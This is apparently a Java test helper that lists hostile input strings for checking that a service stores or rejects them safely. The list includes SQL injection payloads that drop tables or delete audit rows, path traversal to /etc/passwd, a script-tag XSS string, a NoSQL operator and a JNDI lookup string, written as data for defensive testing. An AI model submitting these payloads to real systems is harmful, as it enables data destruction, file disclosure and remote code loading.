package io.runledger.reliability.hostile;

import java.util.List;
import java.util.regex.Pattern;

/**
 * Strings that break naive code: SQL injection, path traversal (plain and percent-encoded), NUL and
 * other control characters, lone surrogates' neighbours, very long text, Unicode that normalises or
 * reorders. Used as ids, filters and free text; they must be stored as data or refused as invalid.
 */
public final class HostileStrings {
    /** docs/HTTP.md and docs/FORMAT.md: an id is 1–128 characters of {@code A–Z a–z 0–9 . _ : -}. */
    public static final Pattern VALID_ID = Pattern.compile("[A-Za-z0-9._:-]{1,128}");

    public static final List<String> ALL = List.of(
            "'; DROP TABLE runs;--",
            "\" OR 1=1 --",
            "' OR '1'='1",
            "1; DELETE FROM audit_events",
            "r') UNION SELECT * FROM meta --",
            "$$; DROP TABLE steps; $$",
            "\\'; SELECT pg_sleep(5);--",
            "../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "%252e%252e%252f",
            "..",
            ".",
            "...",
            "--",
            "a:b:c",
            "run-1.._-",
            ":memory:",
            "nul\u0000byte",
            "\u0000",
            "tab\tnew\nline\rcr",
            "\u001b[31mred\u001b[0m",
            "<script>alert(1)</script>",
            "{\"$gt\":\"\"}",
            "${jndi:ldap://x/a}",
            "é (e + combining acute: e\u0301)",
            "\u202eRTL override",
            "zero\u200bwidth",
            "emoji 🚀👩‍💻",
            "CJK 漢字",
            "\uffff\ufffe",
            "x".repeat(128),
            "x".repeat(129),
            "y".repeat(10_000),
            " leading and trailing ",
            "");

    private HostileStrings() {
    }

    /** Whether the id rules admit {@code text} as an id. */
    public static boolean validId(String text) {
        return VALID_ID.matcher(text).matches();
    }
}
